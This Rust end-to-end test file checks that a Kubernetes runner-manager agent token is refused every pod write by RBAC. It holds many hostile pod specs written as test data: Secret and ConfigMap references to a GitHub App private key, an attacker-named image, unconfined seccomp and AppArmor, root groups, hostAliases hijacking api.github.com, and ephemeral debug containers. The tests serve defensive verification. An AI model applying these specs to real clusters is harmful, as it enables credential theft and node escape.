//! Issue 16 item 2 and issue 28 item 1: the pods of runner-manager (OCI runners, placeholders of
//! native runners) are made and removed by the operator, which builds them
//! (`runner_manager_crds::pods`) when an agent orders them through the broker; the agent holds
//! no pod write right at all, in the chart (`e2e/testdata/chart-agent.yaml`, rendered from it)
//! as in the plain manifests. The requests here are made with a token bound to simulated agent
//! pod A, as a compromised node A would make them: every pod write is refused by RBAC, the
//! builder's own placeholder included, so there is no pod field a deny-list could miss. What the
//! broker makes for an agent, and what it refuses, is attacked in `broker.rs`
//! (`pods_are_made_only_for_the_callers_own_attempts_and_as_the_builder_makes_them`).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeMap;
use std::time::Duration;

use k8s_openapi::api::core::v1::Pod;
use kube::ResourceExt;
use kube::api::{Api, DeleteParams, PostParams};
use runner_manager_crds::attempt::RunnerAttempt;
use runner_manager_crds::pods::{self, PlaceholderSpec, PodRole, placeholder_pod};
use runner_manager_e2e::harness::admission::{
    agent_client, grant_agent_rbac, grant_plain_manifests_agent_rbac,
};
use runner_manager_e2e::harness::cluster::list_all;
use runner_manager_e2e::harness::fixtures::native_attempt;
use runner_manager_e2e::harness::node::AGENT_SA;
use runner_manager_e2e::harness::node::SimNode;
use runner_manager_e2e::harness::wait;
use runner_manager_e2e::harness::world::World;

/// The API server's answer to a refused request: (code, message).
fn refusal<T: std::fmt::Debug>(r: Result<T, kube::Error>) -> (u16, String) {
    match r {
        Err(kube::Error::Api(s)) => (s.code, s.message),
        other => panic!("expected a refusal, got {other:?}"),
    }
}

/// What RBAC says when it refuses the agent a pod write.
const NO_RIGHT: &str = "cannot create resource \"pods\"";

/// Create `pod` as the agent and expect RBAC to refuse it (the agent has no pod create right).
async fn refused(api: &Api<Pod>, pod: &Pod, what: &str) {
    let (code, message) = refusal(api.create(&PostParams::default(), pod).await);
    assert_eq!(code, 403, "{what}: {message}");
    assert!(
        message.contains(NO_RIGHT),
        "{what}: expected RBAC's refusal: {message}"
    );
}

/// The placeholder spec the test operator's broker makes.
fn pause() -> PlaceholderSpec {
    PlaceholderSpec {
        image: "runner-manager.local/pause:1".into(),
        priority_class: None,
    }
}

/// What both attacks start from: a world of two simulated nodes (`<prefix>-a`, `<prefix>-b`), the
/// agent ServiceAccount with the chart's rights, the placeholder spec of the broker, and one
/// native attempt on each node.
struct TwoNodes {
    w: World,
    a: SimNode,
    b: SimNode,
    made: PlaceholderSpec,
    on_a: RunnerAttempt,
    on_b: RunnerAttempt,
}

async fn two_nodes(test: &str, system: &str, team: &str, prefix: &str) -> Option<TwoNodes> {
    let w = World::builder(test)
        .namespaces(system, team)
        .build()
        .await
        .unwrap()?;
    let a = w
        .add_node(&format!("{prefix}-a"), BTreeMap::new())
        .await
        .unwrap()
        .node;
    let b = w
        .add_node(&format!("{prefix}-b"), BTreeMap::new())
        .await
        .unwrap()
        .node;
    grant_agent_rbac(&w.kube, &w.system).await.unwrap();
    let attempts = Api::<RunnerAttempt>::namespaced(w.kube.clone(), &w.team);
    let mut on = Vec::new();
    for node in [&a.name, &b.name] {
        on.push(
            attempts
                .create(
                    &PostParams::default(),
                    &native_attempt(uuid::Uuid::new_v4(), "web", "uid-web", node),
                )
                .await
                .unwrap(),
        );
    }
    let (on_a, on_b) = (on.remove(0), on.remove(0));
    Some(TwoNodes {
        w,
        a,
        b,
        made: pause(),
        on_a,
        on_b,
    })
}

/// Issue 28 item 1, the class removed: with the chart's agent rights, a token of agent A can
/// create no pod at all, not even the placeholder the broker would build for A's own attempt,
/// another node's, or one moved to another node, and can delete none, its own node's included.
/// Seen failing with the right granted (the chart before issue 28 item 1): the builder's pod was
/// created.
#[tokio::test]
async fn an_agent_token_creates_and_deletes_no_pod() {
    let Some(TwoNodes {
        w,
        a,
        b,
        made,
        on_a,
        on_b,
    }) = two_nodes("attacks_pods", "rm-podsys", "rm-pods", "pods").await
    else {
        return;
    };
    let (kube, sys, ns) = (w.kube.clone(), w.system.clone(), w.team.clone());
    let (node_a, node_b) = (a.name.clone(), b.name.clone());

    let as_a = Api::<Pod>::namespaced(agent_client(&kube, &sys, &a.pod).await.unwrap(), &ns);
    let admin = Api::<Pod>::namespaced(kube.clone(), &ns);
    let good = placeholder_pod(&on_a, &node_a, &made).unwrap();
    let elsewhere = placeholder_pod(&on_b, &node_b, &made).unwrap();
    let mut moved = good.clone();
    moved.spec.as_mut().unwrap().node_name = Some(node_b.clone());
    refused(
        &as_a,
        &good,
        "the builder's placeholder for its own attempt",
    )
    .await;
    refused(&as_a, &elsewhere, "another node's placeholder").await;
    refused(&as_a, &moved, "its own placeholder moved to another node").await;
    let dry = PostParams {
        dry_run: true,
        ..PostParams::default()
    };
    let (code, _) = refusal(as_a.create(&dry, &good).await);
    assert_eq!(code, 403, "not even a dry run");
    assert!(list_all(&admin).await.is_empty(), "no pod was made");

    // Deletion: the broker's pods on node A and node B (made by the admin here), and an
    // ordinary pod of the namespace: each refused, each still there.
    admin.create(&PostParams::default(), &good).await.unwrap();
    admin
        .create(&PostParams::default(), &elsewhere)
        .await
        .unwrap();
    let mut bystander = good.clone();
    bystander.metadata = kube::api::ObjectMeta {
        name: Some("bystander".into()),
        ..Default::default()
    };
    admin
        .create(&PostParams::default(), &bystander)
        .await
        .unwrap();
    let now = DeleteParams {
        grace_period_seconds: Some(0),
        ..DeleteParams::default()
    };
    for name in [
        good.metadata.name.clone().unwrap(),
        elsewhere.metadata.name.clone().unwrap(),
        "bystander".to_owned(),
    ] {
        let (code, message) = refusal(as_a.delete(&name, &now).await);
        assert_eq!(code, 403, "delete {name}: {message}");
        assert!(admin.get_opt(&name).await.unwrap().is_some(), "{name} gone");
    }
    let collection = refusal(
        as_a.delete_collection(&now, &Default::default())
            .await
            .map(|_| ()),
    );
    assert_eq!(collection.0, 403, "deletecollection: {}", collection.1);
}

/// `pod` changed as JSON: the attacks below set fields the way an attacker's request would, not
/// through the builders the agent uses.
fn edited(pod: &Pod, edit: impl FnOnce(&mut serde_json::Value)) -> Pod {
    let mut v = serde_json::to_value(pod).unwrap();
    edit(&mut v);
    serde_json::from_value(v).unwrap()
}

/// Issue 28 items 1 and 6: a pod on node A could carry what the agent itself may not read, and
/// the node's kubelet would fetch it (the Node authorizer lets a kubelet read the Secrets its
/// pods reference): `envFrom: [{secretRef: {name: github-app}}]` was admitted by the agent-pods
/// policy this replaced. Each attack is made with a token bound to simulated agent pod A on node
/// A, with the chart's agent rights (`e2e/testdata/chart-agent.yaml`): every one is refused with
/// 403 by RBAC, and no existing pod can be changed. The test ends by removing the defence (a Role
/// granting the agent `pods create` in the namespace) and shows the Secret-referencing pod is
/// then created: the attack is real, and only the missing right stops it.
#[tokio::test]
async fn an_agent_token_cannot_make_a_pod_that_reaches_secrets_labels_or_the_host() {
    let Some(TwoNodes {
        w,
        a,
        b,
        made,
        on_a,
        on_b,
    }) = two_nodes(
        "attacks_pods_reach",
        "rm-podreachsys",
        "rm-podreach",
        "reach",
    )
    .await
    else {
        return;
    };
    let (kube, sys, ns) = (w.kube.clone(), w.system.clone(), w.team.clone());
    let (node_a, node_b) = (a.name.clone(), b.name.clone());
    let agent = agent_client(&kube, &sys, &a.pod).await.unwrap();
    let as_a = Api::<Pod>::namespaced(agent.clone(), &ns);
    let admin = Api::<Pod>::namespaced(kube.clone(), &ns);
    let good = placeholder_pod(&on_a, &node_a, &made).unwrap();
    let dry = PostParams {
        dry_run: true,
        ..PostParams::default()
    };
    let probe = edited(&good, |v| {
        v["spec"]["containers"][0]["envFrom"] =
            serde_json::json!([{"secretRef": {"name": "github-app"}}]);
    });
    let elsewhere = placeholder_pod(&on_b, &node_b, &made).unwrap();

    // A runner pod as the broker builds one, the base of the runner-only attacks.
    let runtime = "/var/lib/runner-manager/runners/3f2a9c0177aa";
    let runner = edited(&good, |v| {
        let name = pods::pod_name(on_a.metadata.name.as_deref().unwrap(), PodRole::Runner);
        v["metadata"]["name"] = name.into();
        v["metadata"]["labels"][pods::ROLE_LABEL] = "runner".into();
        v["metadata"].as_object_mut().unwrap().remove("annotations");
        let spec = &mut v["spec"];
        spec.as_object_mut().unwrap().remove("priorityClassName");
        spec["volumes"] = serde_json::json!([{"name": "runtime", "hostPath": {"path": runtime, "type": "Directory"}}]);
        let c = &mut spec["containers"][0];
        c["image"] = format!("ghcr.io/o/runner@sha256:{}", "a".repeat(64)).into();
        c["env"] = serde_json::json!([{"name": "RUNNER_ENV", "value": "x"}]);
        c["volumeMounts"] = serde_json::json!([{"name": "runtime", "mountPath": runtime}]);
    });
    for (what, pod) in [("a runner pod", &runner), ("a placeholder", &good)] {
        let (code, message) = refusal(as_a.create(&dry, pod).await);
        assert_eq!(code, 403, "{what}, dry run: {message}");
    }

    // A runtime class that exists (without it the API server's RuntimeClass admission would
    // refuse the pod naming it, were it ever asked).
    let runtime_class = format!("{sys}-unconfined");
    let classes = Api::<k8s_openapi::api::node::v1::RuntimeClass>::all(kube.clone());
    let class: k8s_openapi::api::node::v1::RuntimeClass = serde_json::from_value(
        serde_json::json!({"metadata": {"name": runtime_class}, "handler": "runc"}),
    )
    .unwrap();
    classes
        .create(&PostParams::default(), &class)
        .await
        .unwrap();
    // What each attack reaches for, as the agent-pods policy this replaced named its refusals.
    let secret = "references no Secret or ConfigMap";
    let image = "placeholder image (a placeholder) or an image pinned";
    let labels = "the convention's four labels";
    let profile = "default seccomp and AppArmor profiles";
    let extras = "no runtime class, host aliases";
    let attacks: Vec<(&str, Pod, &str)> = vec![
        // The critical case first: the kubelet would read `github-app` for this pod.
        ("envFrom secretRef", probe.clone(), secret),
        (
            "env secretKeyRef",
            edited(&runner, |v| {
                v["spec"]["containers"][0]["env"] = serde_json::json!([{"name": "K", "valueFrom": {"secretKeyRef": {"name": "github-app", "key": "private-key"}}}]);
            }),
            secret,
        ),
        (
            "env configMapKeyRef",
            edited(&runner, |v| {
                v["spec"]["containers"][0]["env"] = serde_json::json!([{"name": "K", "valueFrom": {"configMapKeyRef": {"name": "cfg", "key": "k"}}}]);
            }),
            secret,
        ),
        (
            "envFrom configMapRef",
            edited(&runner, |v| {
                v["spec"]["containers"][0]["envFrom"] =
                    serde_json::json!([{"configMapRef": {"name": "cfg"}}]);
            }),
            secret,
        ),
        (
            "imagePullSecrets",
            edited(&good, |v| {
                v["spec"]["imagePullSecrets"] = serde_json::json!([{"name": "github-app"}]);
            }),
            secret,
        ),
        (
            "a placeholder of another image",
            edited(&good, |v| {
                v["spec"]["containers"][0]["image"] = "ghcr.io/attacker/tool:latest".into();
            }),
            image,
        ),
        (
            "a runner of an unpinned image",
            edited(&runner, |v| {
                v["spec"]["containers"][0]["image"] = "ghcr.io/attacker/tool:latest".into();
            }),
            image,
        ),
        (
            "an extra label (a tenant's Service selector)",
            edited(&good, |v| {
                v["metadata"]["labels"]["app"] = "web".into();
            }),
            labels,
        ),
        (
            "an extra annotation",
            edited(&good, |v| {
                v["metadata"]["annotations"]["container.apparmor.security.beta.kubernetes.io/placeholder"] =
                    "unconfined".into();
            }),
            labels,
        ),
        (
            "seccomp Unconfined (pod)",
            edited(&good, |v| {
                v["spec"]["securityContext"]["seccompProfile"] =
                    serde_json::json!({"type": "Unconfined"});
            }),
            profile,
        ),
        (
            "seccomp Unconfined (container)",
            edited(&runner, |v| {
                v["spec"]["containers"][0]["securityContext"]["seccompProfile"] =
                    serde_json::json!({"type": "Unconfined"});
            }),
            profile,
        ),
        (
            "AppArmor Unconfined",
            edited(&good, |v| {
                v["spec"]["securityContext"]["appArmorProfile"] =
                    serde_json::json!({"type": "Unconfined"});
            }),
            profile,
        ),
        (
            "SELinux options",
            edited(&good, |v| {
                v["spec"]["securityContext"]["seLinuxOptions"] =
                    serde_json::json!({"type": "spc_t"});
            }),
            profile,
        ),
        (
            "runAsGroup 0",
            edited(&runner, |v| {
                v["spec"]["securityContext"]["runAsGroup"] = 0.into();
            }),
            profile,
        ),
        (
            "runAsGroup 0 (container)",
            edited(&runner, |v| {
                v["spec"]["containers"][0]["securityContext"]["runAsGroup"] = 0.into();
            }),
            profile,
        ),
        (
            "supplementalGroups",
            edited(&runner, |v| {
                v["spec"]["securityContext"]["supplementalGroups"] = serde_json::json!([0]);
            }),
            profile,
        ),
        (
            "fsGroup",
            edited(&runner, |v| {
                v["spec"]["securityContext"]["fsGroup"] = 0.into();
            }),
            profile,
        ),
        (
            "sysctls",
            edited(&good, |v| {
                v["spec"]["securityContext"]["sysctls"] = serde_json::json!([{"name": "net.ipv4.ip_unprivileged_port_start", "value": "0"}]);
            }),
            profile,
        ),
        (
            "runtimeClassName",
            edited(&good, |v| {
                v["spec"]["runtimeClassName"] = runtime_class.as_str().into();
            }),
            extras,
        ),
        (
            "hostAliases",
            edited(&good, |v| {
                v["spec"]["hostAliases"] =
                    serde_json::json!([{"ip": "10.0.0.1", "hostnames": ["api.github.com"]}]);
            }),
            extras,
        ),
        (
            "shareProcessNamespace",
            edited(&good, |v| {
                v["spec"]["shareProcessNamespace"] = true.into();
            }),
            extras,
        ),
        (
            "subPath",
            edited(&runner, |v| {
                v["spec"]["containers"][0]["volumeMounts"][0]["subPath"] =
                    "_work/link-to-host".into();
            }),
            extras,
        ),
    ];
    for (what, pod, reaches) in &attacks {
        refused(&as_a, pod, &format!("{what} ({reaches})")).await;
    }

    // Pods that exist: node A's own placeholder and node B's (made by the admin, as the
    // broker's would be). The agent may change neither: no update, patch, ephemeral container,
    // eviction or delete (RBAC grants none).
    admin.create(&PostParams::default(), &good).await.unwrap();
    admin
        .create(&PostParams::default(), &elsewhere)
        .await
        .unwrap();
    let own = pods::pod_name(on_a.metadata.name.as_deref().unwrap(), PodRole::Placeholder);
    let other = elsewhere.metadata.name.clone().unwrap();
    for name in [&own, &other] {
        let current = admin.get(name).await.unwrap();
        let (code, message) = refusal(as_a.replace(name, &PostParams::default(), &current).await);
        assert_eq!(code, 403, "update {name}: {message}");
        let relabel = kube::api::Patch::Merge(serde_json::json!({
            "metadata": {"labels": {"app": "web"}}
        }));
        let (code, message) = refusal(as_a.patch(name, &Default::default(), &relabel).await);
        assert_eq!(code, 403, "patch {name}: {message}");
        let debug = kube::api::Patch::Strategic(serde_json::json!({
            "spec": {"ephemeralContainers": [{
                "name": "debug", "image": "ghcr.io/attacker/tool:latest",
                "envFrom": [{"secretRef": {"name": "github-app"}}]
            }]}
        }));
        let (code, message) = refusal(
            as_a.patch_subresource("ephemeralcontainers", name, &Default::default(), &debug)
                .await,
        );
        assert_eq!(code, 403, "ephemeral container in {name}: {message}");
        let (code, message) = refusal(as_a.evict(name, &Default::default()).await);
        assert_eq!(code, 403, "evict {name}: {message}");
    }
    let (code, message) = refusal(
        as_a.delete(
            &other,
            &DeleteParams {
                grace_period_seconds: Some(0),
                ..DeleteParams::default()
            },
        )
        .await,
    );
    assert_eq!(code, 403, "delete node B's pod: {message}");
    // Only the two pods above exist, unchanged.
    let listed = list_all(&admin).await;
    assert_eq!(listed.len(), 2);
    for p in &listed {
        assert!(p.labels().get("app").is_none());
        assert!(p.spec.as_ref().unwrap().ephemeral_containers.is_none());
    }
    classes
        .delete(&runtime_class, &DeleteParams::default())
        .await
        .unwrap();

    // The defence removed: a Role granting the agent `pods create` in the namespace (what the
    // chart granted before, behind a deny-list that missed `envFrom`). The Secret-referencing
    // pod is then made, bound to node A, whose kubelet the Node authorizer lets read
    // `github-app`: the attack above is real, and only the missing right stops it.
    let roles = Api::<k8s_openapi::api::rbac::v1::Role>::namespaced(kube.clone(), &ns);
    let bindings = Api::<k8s_openapi::api::rbac::v1::RoleBinding>::namespaced(kube.clone(), &ns);
    let role: k8s_openapi::api::rbac::v1::Role = serde_json::from_value(serde_json::json!({
        "metadata": {"name": "defence-removed"},
        "rules": [{"apiGroups": [""], "resources": ["pods"], "verbs": ["create"]}]
    }))
    .unwrap();
    let binding: k8s_openapi::api::rbac::v1::RoleBinding =
        serde_json::from_value(serde_json::json!({
            "metadata": {"name": "defence-removed"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "defence-removed"},
            "subjects": [{"kind": "ServiceAccount", "name": AGENT_SA, "namespace": sys}]
        }))
        .unwrap();
    roles.create(&PostParams::default(), &role).await.unwrap();
    bindings
        .create(&PostParams::default(), &binding)
        .await
        .unwrap();
    let mut stolen = probe.clone();
    stolen.metadata.name = Some("defence-removed".into());
    let made_pod = wait::until(
        Duration::from_secs(30),
        "the Secret-referencing pod is admitted once the agent may create pods",
        || async { as_a.create(&PostParams::default(), &stolen).await.ok() },
    )
    .await
    .unwrap();
    assert_eq!(
        made_pod.spec.as_ref().unwrap().node_name.as_deref(),
        Some(node_a.as_str())
    );
    let text = serde_json::to_string(&made_pod).unwrap();
    assert!(text.contains("github-app"), "{text}");
    bindings
        .delete("defence-removed", &DeleteParams::default())
        .await
        .unwrap();
    roles
        .delete("defence-removed", &DeleteParams::default())
        .await
        .unwrap();
}

/// Issue 28 item 2: the plain manifests (`deploy/manifests`, for servers without
/// ValidatingAdmissionPolicy) give the agent no pod write right at all, so there is nothing a
/// deny-list must confine: with a real agent token, a pod of the convention on its own node, an
/// update, a patch, an ephemeral container, an eviction and a delete are each refused (403).
#[tokio::test]
async fn the_plain_manifests_give_an_agent_token_no_pod_write_right() {
    let Some(w) = World::builder("attacks_pods_plain")
        .namespaces("rm-podplainsys", "rm-podplain")
        .build()
        .await
        .unwrap()
    else {
        return;
    };
    let (kube, sys, ns) = (w.kube.clone(), w.system.clone(), w.team.clone());
    let a = w.add_node("plain-a", BTreeMap::new()).await.unwrap().node;
    grant_plain_manifests_agent_rbac(&kube, &sys).await.unwrap();
    let attempt = Api::<RunnerAttempt>::namespaced(kube.clone(), &ns)
        .create(
            &PostParams::default(),
            &native_attempt(uuid::Uuid::new_v4(), "web", "uid-web", &a.name),
        )
        .await
        .unwrap();
    let good = placeholder_pod(&attempt, &a.name, &pause()).unwrap();
    let as_a = Api::<Pod>::namespaced(agent_client(&kube, &sys, &a.pod).await.unwrap(), &ns);
    let admin = Api::<Pod>::namespaced(kube.clone(), &ns);
    let (code, message) = refusal(as_a.create(&PostParams::default(), &good).await);
    assert_eq!(code, 403, "create: {message}");
    let secret = edited(&good, |v| {
        v["spec"]["containers"][0]["envFrom"] =
            serde_json::json!([{"secretRef": {"name": "github-app"}}]);
    });
    let (code, message) = refusal(as_a.create(&PostParams::default(), &secret).await);
    assert_eq!(code, 403, "create with envFrom: {message}");
    // The same pod, made by the admin (as a runner's would be): the agent cannot touch it.
    admin.create(&PostParams::default(), &good).await.unwrap();
    let name = good.metadata.name.clone().unwrap();
    let current = admin.get(&name).await.unwrap();
    let (code, _) = refusal(as_a.replace(&name, &PostParams::default(), &current).await);
    assert_eq!(code, 403, "update");
    let relabel =
        kube::api::Patch::Merge(serde_json::json!({"metadata": {"labels": {"app": "web"}}}));
    let (code, _) = refusal(as_a.patch(&name, &Default::default(), &relabel).await);
    assert_eq!(code, 403, "patch");
    let debug = kube::api::Patch::Strategic(serde_json::json!({
        "spec": {"ephemeralContainers": [{"name": "debug", "image": "ghcr.io/attacker/tool:latest"}]}
    }));
    let (code, _) = refusal(
        as_a.patch_subresource("ephemeralcontainers", &name, &Default::default(), &debug)
            .await,
    );
    assert_eq!(code, 403, "ephemeral container");
    let (code, _) = refusal(as_a.evict(&name, &Default::default()).await);
    assert_eq!(code, 403, "evict");
    let (code, _) = refusal(as_a.delete(&name, &DeleteParams::default()).await);
    assert_eq!(code, 403, "delete");
    assert!(admin.get_opt(&name).await.unwrap().is_some());
}
